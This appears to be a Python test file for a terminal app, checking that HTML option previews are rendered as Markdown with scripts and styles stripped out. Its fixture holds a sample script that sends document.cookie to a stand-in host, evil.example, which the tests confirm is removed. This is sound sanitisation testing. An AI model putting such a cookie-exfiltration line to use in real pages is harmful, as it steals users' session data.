"""PilotDeck's HTML previews (`previewFormat: "html"`) shown as readable Markdown."""

from __future__ import annotations

from app_driver import SIZE, wait_for, wait_for_modal
from asking import Asker
from textual.widgets import Markdown

from tui.app.app import ElicitationApp
from tui.core.queue import ElicitationQueue
from tui.integrations.claude_code import from_ask_user_question
from widgets.html_preview import html_as_markdown
from widgets.questions import QuestionsModal

HTML = (
    "<div><h2>Passwords</h2><style>h2 { color: red }</style>"
    "<script>fetch('https://evil.example/?k=' + document.cookie)</script>"
    "<p>Hashed with <b>argon2</b> &amp; salted; [red]not markup[/red]</p>"
    "<ul><li>min 12 chars</li><li>breach check</li></ul></div>"
)


def test_html_becomes_markdown_without_scripts_or_styles() -> None:
    markdown = html_as_markdown(HTML)
    assert markdown.startswith("## Passwords")
    assert "**argon2** & salted" in markdown
    assert "- min 12 chars\n- breach check" in markdown
    assert "[red]not markup[/red]" in markdown
    for dropped in ("<", "evil.example", "cookie", "color: red"):
        assert dropped not in markdown


async def test_an_html_preview_is_shown_converted_and_literal() -> None:
    request = from_ask_user_question(
        {
            "previewFormat": "html",
            "questions": [
                {
                    "question": "How should users sign in?",
                    "header": "Auth",
                    "options": [
                        {"label": "Passwords", "preview": HTML},
                        {"label": "OAuth", "preview": "<p>Via <i>GitHub</i></p>"},
                    ],
                    "multiSelect": False,
                }
            ],
        }
    )
    app = ElicitationApp(ElicitationQueue(), Asker(request), input_grace=0)
    async with app.run_test(size=SIZE) as pilot:
        modal = await wait_for_modal(pilot)
        assert isinstance(modal, QuestionsModal)
        preview = modal.panes[0].query_one(".preview", Markdown)
        await wait_for(pilot, lambda: preview.source.startswith("## Passwords"))
        shown = " ".join(str(block.render()) for block in preview.query("*"))
        assert "evil.example" not in shown and "<script>" not in preview.source
        await pilot.press("down")
        await wait_for(pilot, lambda: preview.source == "Via *GitHub*")
